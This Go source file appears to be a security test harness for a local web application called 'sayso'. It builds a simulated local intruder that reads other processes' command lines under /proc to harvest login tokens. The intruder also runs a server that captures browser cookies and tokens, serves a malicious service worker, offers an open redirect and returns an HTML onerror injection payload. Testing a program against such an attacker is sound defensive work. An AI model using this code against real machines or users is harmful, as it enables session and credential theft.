package attacktest

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
)

// canary is in the text of every ask that the intruder must not read.
const canary = "Delete production"

// order is what the intruder is told to do. It answers with all that it knows.
type order struct {
	Do      string   // listen, leave, look or attack
	Address string   // to listen on, or to leave
	Ports   []string // of the inbox, which every user of the machine can find out
}

// loot is what the intruder knows.
type loot struct {
	Err     string   // why the order was not done
	Address string   // where it listens now
	Names   []string // of this machine, guessed or learnt
	Cookies []string // that a browser sent
	Tokens  []string // of login addresses
	Done    int      // pages that a browser has run to their end
	Read    []string // where it read what is asked
	Served  []string // names under which it got anything of the inbox
	Sent    []string // answers that it sent, and their status
}

// intruder is another user of the machine, with the program to steal with. It is a
// process of its own, which reads orders from its standard input.
type intruder struct {
	mu     sync.Mutex
	loot   loot
	inbox  []string // the last ports it was told
	server map[string]*http.Server
}

// guesses are names that everybody knows.
var guesses = []string{"127.0.0.1", "localhost", "[::1]", "sayso.localhost", "other.localhost"}

// last returns the guesses and the few names that were learnt last.
func (l *loot) last() []string {
	learnt := l.Names[len(guesses):]
	return slices.Concat(guesses, learnt[max(0, len(learnt)-3):])
}

// intrude runs that process.
func intrude() {
	in := &intruder{server: map[string]*http.Server{}}
	// It knows the source of sayso, and so the names that somebody would choose.
	in.loot.Names = slices.Clone(guesses)
	orders, replies := json.NewDecoder(os.Stdin), json.NewEncoder(os.Stdout)
	for {
		var o order
		if orders.Decode(&o) != nil {
			return
		}
		err := in.do(&o)
		in.mu.Lock()
		in.loot.Err = ""
		if err != nil {
			in.loot.Err = err.Error()
		}
		replies.Encode(&in.loot)
		in.mu.Unlock()
	}
}

func (in *intruder) do(o *order) error {
	if len(o.Ports) > 0 {
		in.mu.Lock()
		in.inbox = o.Ports
		in.mu.Unlock()
	}
	switch o.Do {
	case "listen":
		ln, err := net.Listen("tcp", o.Address)
		if err != nil {
			return err
		}
		in.mu.Lock()
		defer in.mu.Unlock()
		s := &http.Server{Handler: http.HandlerFunc(in.serve)}
		in.loot.Address = ln.Addr().String()
		in.server[o.Address] = s
		go s.Serve(ln)
	case "leave":
		in.server[o.Address].Close()
		delete(in.server, o.Address)
	case "look":
		in.look()
	case "attack":
		in.attack()
	}
	return nil
}

func (in *intruder) learn(list *[]string, what string) {
	if what != "" && !slices.Contains(*list, what) {
		*list = append(*list, what)
	}
}

// look reads the process list, as every user can.
func (in *intruder) look() {
	in.mu.Lock()
	defer in.mu.Unlock()
	all, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, name := range all {
		text, _ := os.ReadFile(name)
		for _, m := range regexp.MustCompile(`[a-z0-9-]{16,}\.localhost`).FindAllString(string(text), -1) {
			in.learn(&in.loot.Names, m)
		}
		for _, m := range regexp.MustCompile(`/login#([\w-]+)`).FindAllStringSubmatch(string(text), -1) {
			in.learn(&in.loot.Tokens, m[1])
		}
	}
}

// serve answers whatever a browser sends with something that steals.
func (in *intruder) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	in.mu.Lock()
	host := r.Host
	if name, _, err := net.SplitHostPort(host); err == nil {
		host = name
	}
	if host != "::1" {
		in.learn(&in.loot.Names, host)
	}
	if c := r.Header.Get("Cookie"); c != "" {
		in.learn(&in.loot.Cookies, c)
	}
	said := r.URL.RawQuery + " " + string(body)
	if text, err := url.QueryUnescape(said); err == nil {
		said = text
	}
	if strings.Contains(said, canary) {
		in.learn(&in.loot.Read, "a page of "+r.Host)
	}
	if r.URL.Path == "/login" && len(body) > 0 || r.URL.Path == "/report" {
		for _, m := range regexp.MustCompile(`[#=]([\w-]{40,})`).FindAllStringSubmatch(said, -1) {
			in.learn(&in.loot.Tokens, m[1])
		}
	}
	if r.URL.Path == "/done" {
		in.loot.Done++
	}
	names, ports := in.loot.last(), slices.Clone(in.inbox)
	in.mu.Unlock()
	h := w.Header()
	switch {
	case r.URL.Path == "/sw.js":
		h.Set("Content-Type", "text/javascript")
		io.WriteString(w, evilWorker)
	case r.URL.Path == "/to":
		http.Redirect(w, r, r.URL.Query().Get("u"), http.StatusFound)
	case r.URL.Path == "/report", r.URL.Path == "/done":
	case strings.Contains(r.Header.Get("Accept"), "text/event-stream"):
		h.Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "data: {\"all\":true}\n\n") // the page fetches its list
	case r.Header.Get("Sayso-Part") != "":
		h.Set("Content-Type", "text/html")
		h.Set("Sayso-Part", r.Header.Get("Sayso-Part"))
		io.WriteString(w, `<meta http-equiv="refresh" content="0;url=/"><img src=x onerror="location='/'">`)
	case r.URL.Path == "/" || strings.Contains(r.Header.Get("Accept"), "text/html"):
		h.Set("Content-Type", "text/html")
		settings, _ := json.Marshal(map[string]any{"names": names, "ports": ports})
		io.WriteString(w, strings.Replace(evilPage, "SETTINGS", string(settings), 1))
	default:
		http.NotFound(w, r)
	}
}
